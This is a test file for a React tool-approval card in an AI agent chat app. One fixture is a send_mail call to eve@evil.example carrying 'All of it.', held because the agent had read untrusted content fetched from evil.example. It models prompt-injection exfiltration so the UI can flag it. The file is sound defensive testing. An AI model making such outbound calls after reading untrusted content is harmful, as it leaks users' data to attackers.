// @vitest-environment happy-dom
import { act, createElement } from "react";
import { expect, test } from "vitest";
import type { AnyCall, PendingCall } from "../../src/chat-message.ts";
import { ToolCard } from "../../src/message/tool-card.tsx";
import { render } from "../support/rendered.ts";

const call = {
  type: "dynamic-tool",
  toolName: "send_mail",
  toolCallId: "call:2.0",
  state: "approval-requested",
  input: { to: "eve@evil.example", text: "All of it." },
  approval: { id: "call:2.0" },
} satisfies AnyCall;
const asked: PendingCall = { toolCallId: "call:2.0", question: "approval", token: "t", approvedBy: "user" };
const actions = { decide() {}, answer: async () => await Promise.resolve(undefined), stop() {} };

test("a call that is held because of what the model has read says so in a sentence, as text", async () => {
  const because = { reach: "outside", rule: "ask", untrusted: ["web_fetch <b>evil.example</b>"] } as const;
  const { element } = await render(
    createElement(ToolCard, { call, isOpen: false, asked: { ...asked, because }, actions }),
  );
  expect(element.querySelector(".tool-because")?.textContent).toBe(
    "It would reach outside (Send mail to eve@evil.example) after the agent read untrusted content from web_fetch <b>evil.example</b>.",
  );
});

test("a call that is only approved says nothing of that", async () => {
  const { element } = await render(createElement(ToolCard, { call, isOpen: false, asked, actions }));
  expect(element.querySelector(".tool-because")).toBeNull();
  expect([...element.querySelectorAll("button")].map(({ textContent }) => textContent)).toContain("Approve");
});

test("a call that waits for a job says how long it has been going, how far it is and how long it may take, and is cancelled", async () => {
  const since = Date.now() - 12 * 60_000;
  const job = { since, until: since + 6 * 3_600_000 + 12 * 60_000, reportedAt: since };
  const waits: PendingCall = { toolCallId: "call:2.0", question: "job", token: "t", job, progress: { percent: 80 } };
  let stopped = 0;
  const { approval: _, ...going } = { ...call, state: "input-available" as const };
  const { element } = await render(
    createElement(ToolCard, {
      call: going,
      isOpen: false,
      asked: waits,
      actions: { ...actions, stop: () => void stopped++ },
    }),
  );
  expect(element.querySelector(".tool-status")?.textContent).toBe("Running for 12 min");
  expect(element.querySelector("progress")?.value).toBe(0.8);
  expect(element.querySelector(".tool-question p")?.textContent).toBe(
    "The answer continues by itself. It waits for at most another 6 hours.",
  );
  const cancel = [...element.querySelectorAll("button")].find(({ textContent }) => textContent === "Cancel");
  await act(async () => cancel?.click());
  expect(stopped).toBe(1);
});
